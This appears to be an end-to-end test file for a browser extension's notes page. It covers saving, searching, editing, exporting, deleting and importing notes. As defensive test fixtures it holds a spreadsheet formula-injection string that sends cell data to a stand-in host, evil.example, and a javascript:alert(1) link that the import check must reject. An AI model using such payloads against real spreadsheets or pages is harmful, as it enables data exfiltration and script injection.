/**
 * The notes page (contract §9) on the built extension in Chromium: notes saved from cards on an X
 * page (one quoting a post that begins with a spreadsheet formula), found by search, a tag edited
 * from the keyboard, each export downloaded and read, everything deleted (and undone once),
 * the JSON imported back to the same notes, a second import adding nothing, and bad files
 * changing nothing.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import MarkdownIt from 'markdown-it';
import Papa from 'papaparse';
import type { Download, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hoverText } from '../../demo/browser-helpers';
import { xTimelinePage } from '../../demo/pages';
import { testPost } from '../../demo/posts';
import type { ScanItem } from '../../utils/messages';
import { type Harness, startHarness } from '../support/harness';

let h: Harness;
let notes: Page;

/** Written for this test: a post that starts with a formula a spreadsheet would run. */
const FORMULA_POST = '=HYPERLINK("evil.example/?c="&A1,"Bitcoin chart") Bitcoin looks cheap here.';
const TAO_POST = 'Bitcoin holds while $TAO runs. 比特币横盘，"TAO" 领涨, 不是吗？';

beforeAll(async () => {
  h = await startHarness();
  h.serveX('/notes-posts', xTimelinePage([testPost('1', FORMULA_POST), testPost('2', TAO_POST)]));
  await h.useLocalApi();
  const page = await h.open('https://x.com/notes-posts');
  const tabId = await h.tabIdOf(page);
  // The content script reads the page in idle slices: hover once both assets are marked.
  for (let tries = 0; ; tries++) {
    const items = (await h.scan(tabId).catch(() => ({ items: [] as ScanItem[] }))).items;
    if (['cg:bitcoin', 'cg:bittensor'].every((a) => items.some((i) => i.asset === a))) break;
    if (tries > 100) throw new Error(`not marked: ${JSON.stringify(items)}`);
    await page.waitForTimeout(100);
  }
  // "Bitcoin" first occurs in the formula post, "$TAO" only in the other.
  for (const [word, asset] of [
    ['Bitcoin', 'cg:bitcoin'],
    ['$TAO', 'cg:bittensor'],
  ] as const) {
    await hoverText(page, word, '[data-testid="tweetText"]');
    const card = page.locator(`tickerlens-card[data-asset="${asset}"]`);
    await card.waitFor({ state: 'attached', timeout: 15_000 });
    // CoinGecko's recorded price, not the snapshot's (the recording is old: stale either way).
    await card
      .locator('footer')
      .getByText(/^Price: CoinGecko/)
      .waitFor({ timeout: 15_000 });
    await card.getByRole('button', { name: 'Save note' }).click();
    await card.locator('form.note-form button[type="submit"]').click();
    await card.getByText('Note saved').waitFor();
    await page.keyboard.press('Escape');
    await page.mouse.move(5, 5);
    await card.waitFor({ state: 'detached' });
  }
  await page.close();
  notes = await h.context.newPage();
  await notes.goto(`chrome-extension://${h.extensionId}/notes.html`);
});
afterAll(() => h?.close());

const count = () => notes.getByTestId('notes-count');
const note = (text: string) => notes.locator('article.note', { hasText: text });

async function exportFile(name: string): Promise<{ download: Download; text: string }> {
  const [download] = await Promise.all([
    notes.waitForEvent('download'),
    notes.getByRole('button', { name, exact: true }).click(),
  ]);
  const path = await download.path();
  return { download, text: readFileSync(path, 'utf8') };
}

async function importFile(path: string): Promise<void> {
  const [chooser] = await Promise.all([
    notes.waitForEvent('filechooser'),
    notes.getByRole('button', { name: 'Import', exact: true }).click(),
  ]);
  await chooser.setFiles(path);
}

const today = () => {
  const d = new Date();
  return `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`;
};

describe('notes page', () => {
  let json = '';

  it('lists the notes saved from cards, with their quotes, links and prices', async () => {
    await expect.poll(() => count().textContent()).toBe('2 notes');
    const tao = note('$TAO runs');
    await expect.poll(() => tao.locator('h2').textContent()).toBe('Bittensor (TAO)');
    expect(await tao.locator('blockquote').textContent()).toBe(TAO_POST);
    expect(await tao.getByRole('link').getAttribute('href')).toBe('https://x.com/notes-posts');
    expect(await tao.locator('.prices').textContent()).toMatch(
      /Price then: \$361\.24 · Price now: \$361\.24/,
    );
    // The recording's price was last updated at CoinGecko in 2025: old, and said so, as the card does.
    expect(await tao.locator('.prices').textContent()).toMatch(/\(out of date, as of \d+ d ago\)/);
    // And its own checklist then, beside today's (from the cache).
    expect(await tao.locator('table.checklist').textContent()).toContain('Supply cadence');
    expect(await note('HYPERLINK').locator('h2').textContent()).toBe('Bitcoin (BTC)');
  });

  it('searches text, quotes and assets, Chinese and English', async () => {
    const search = notes.getByRole('searchbox', { name: 'Search notes' });
    await search.fill('比特币');
    await expect.poll(() => count().textContent()).toBe('1 of 2 notes');
    expect(await notes.locator('article.note h2').allTextContents()).toEqual(['Bittensor (TAO)']);
    await search.fill('bitcoin cheap');
    expect(await notes.locator('article.note h2').allTextContents()).toEqual(['Bitcoin (BTC)']);
    await search.fill('');
    await expect.poll(() => count().textContent()).toBe('2 notes');
  });

  it('edits a note’s words and tags in place, from the keyboard', async () => {
    const tao = note('$TAO runs');
    await tao.getByRole('button', { name: 'Edit' }).focus();
    await notes.keyboard.press('Enter');
    const words = notes.getByRole('textbox', { name: 'Your note' });
    await expect.poll(() => words.evaluate((el) => el === document.activeElement)).toBe(true);
    await notes.keyboard.type('子网在增长, "watch" dTAO');
    await notes.keyboard.press('Tab');
    await notes.keyboard.type('L1, 观察');
    await notes.keyboard.press('Enter');
    await expect.poll(() => tao.locator('ul.tags li').allTextContents()).toEqual(['#L1', '#观察']);
    // Focus is back on the note's Edit button, where the reader was.
    await expect
      .poll(() => tao.getByRole('button', { name: 'Edit' }).evaluate((el) => el === document.activeElement))
      .toBe(true);
    expect(await tao.locator('p.text').textContent()).toBe('子网在增长, "watch" dTAO');
    // The tag filter offers it, and finds the note.
    await notes.getByRole('combobox', { name: 'Tag' }).selectOption({ label: '#观察 (1)' });
    await expect.poll(() => count().textContent()).toBe('1 of 2 notes');
    await notes.getByRole('combobox', { name: 'Tag' }).selectOption('');
  });

  it('exports JSON, CSV and Markdown files named with the date', async () => {
    const j = await exportFile('Export JSON');
    expect(j.download.suggestedFilename()).toBe(`tickerlens-notes-${today()}.json`);
    json = j.text;
    const file = JSON.parse(json);
    expect(file).toMatchObject({ format: 'tickerlens-notes', version: 1 });
    expect(new Date(file.exportedAt).toISOString()).toBe(file.exportedAt);
    expect(file.notes).toHaveLength(2);
    expect(file.notes.find((n: { tags: string[] }) => n.tags.length)).toMatchObject({
      text: '子网在增长, "watch" dTAO',
      tags: ['L1', '观察'],
      assetId: 'cg:bittensor',
    });

    const c = await exportFile('Export CSV');
    expect(c.download.suggestedFilename()).toBe(`tickerlens-notes-${today()}.csv`);
    expect(c.text.charCodeAt(0)).toBe(0xfeff);
    const rows = Papa.parse<string[]>(c.text.slice(1), { newline: '\r\n' }).data;
    expect(rows).toHaveLength(3);
    const quoteCol = rows[0]?.indexOf('Quote') ?? -1;
    const quotes = rows.slice(1).map((r) => r[quoteCol]);
    expect(quotes).toContain(`'${FORMULA_POST}`);
    expect(quotes).toContain(TAO_POST);
    expect(c.text).toContain(
      `"'=HYPERLINK(""evil.example/?c=""&A1,""Bitcoin chart"") Bitcoin looks cheap here."`,
    );

    const m = await exportFile('Export Markdown');
    expect(m.download.suggestedFilename()).toBe(`tickerlens-notes-${today()}.md`);
    expect(m.text).toContain(
      '> \\=HYPERLINK\\("evil.example/?c="\\&A1,"Bitcoin chart"\\) Bitcoin looks cheap here.',
    );
    expect(m.text).toContain('## Bittensor \\(TAO\\)');
    const html = new MarkdownIt({ html: true, linkify: true }).render(m.text);
    expect(html).not.toMatch(/<img|<script/);
    const links = [...html.matchAll(/<a href="([^"]*)"/g)].map((x) => x[1]);
    expect(links).toEqual(['https://x.com/notes-posts', 'https://x.com/notes-posts']);
  });

  it('exports only what the search shows', async () => {
    await notes.getByRole('searchbox', { name: 'Search notes' }).fill('$tao');
    const { text } = await exportFile('Export JSON');
    expect(JSON.parse(text).notes.map((n: { assetId: string }) => n.assetId)).toEqual(['cg:bittensor']);
    await notes.getByRole('searchbox', { name: 'Search notes' }).fill('');
  });

  it('deletes all notes, with an undo', async () => {
    await notes.getByRole('button', { name: 'Delete the 2 notes found' }).click();
    await notes.getByRole('button', { name: 'Delete them' }).click();
    await expect.poll(() => count().textContent()).toBe('0 notes');
    expect(await notes.getByRole('status').filter({ hasText: 'deleted' }).textContent()).toContain(
      '2 notes deleted.',
    );
    await notes.getByRole('button', { name: 'Undo' }).click();
    await expect.poll(() => count().textContent()).toBe('2 notes');
    await notes.getByRole('button', { name: 'Delete the 2 notes found' }).click();
    await notes.getByRole('button', { name: 'Delete them' }).click();
    await expect.poll(() => count().textContent()).toBe('0 notes');
  });

  it('imports the JSON back to the same notes, after a preview; a second import adds nothing', async () => {
    const path = join(tmpdir(), `tickerlens-notes-${process.pid}.json`);
    writeFileSync(path, json);
    await importFile(path);
    await expect
      .poll(() => notes.getByTestId('import-preview').textContent())
      .toBe('2 new, 0 changed, 0 removed');
    expect(await count().textContent()).toBe('0 notes');
    await notes.getByRole('button', { name: 'Import these' }).click();
    await expect.poll(() => count().textContent()).toBe('2 notes');
    await notes.getByRole('searchbox', { name: 'Search notes' }).fill('观察');
    await expect.poll(() => notes.locator('article.note h2').allTextContents()).toEqual(['Bittensor (TAO)']);
    await notes.getByRole('searchbox', { name: 'Search notes' }).fill('');
    // The same notes: ids, uids, words, quotes, tags and captures as exported.
    const again = JSON.parse((await exportFile('Export JSON')).text);
    expect(again.notes).toEqual(JSON.parse(json).notes);

    await importFile(path);
    await expect
      .poll(() => notes.getByTestId('import-preview').textContent())
      .toBe('0 new, 0 changed, 0 removed · 2 already here unchanged');
    await notes.getByRole('button', { name: 'Import these' }).click();
    await expect.poll(() => notes.getByTestId('import-preview').count()).toBe(0);
    expect(await count().textContent()).toBe('2 notes');
  });

  it('changes nothing on a malformed file, and says what is wrong and where', async () => {
    const bad = JSON.parse(json);
    bad.notes[1].capture.url = 'javascript:alert(1)';
    bad.notes[0].text = 'this edit must not land';
    const path = join(tmpdir(), `tickerlens-bad-${process.pid}.json`);
    writeFileSync(path, JSON.stringify(bad));
    await importFile(path);
    await expect
      .poll(() => notes.getByTestId('import-error').textContent())
      .toBe('Nothing was imported: the link is not an http(s) address at notes[1].capture.url.');
    writeFileSync(path, '{"format": "tickerlens-notes", "version": 1, "notes": [');
    await importFile(path);
    await expect
      .poll(() => notes.getByTestId('import-error').textContent())
      .toMatch(/^Nothing was imported: the file is not JSON/);
    await notes.reload();
    await expect.poll(() => count().textContent()).toBe('2 notes');
    expect(JSON.parse((await exportFile('Export JSON')).text).notes).toEqual(JSON.parse(json).notes);
  });
});
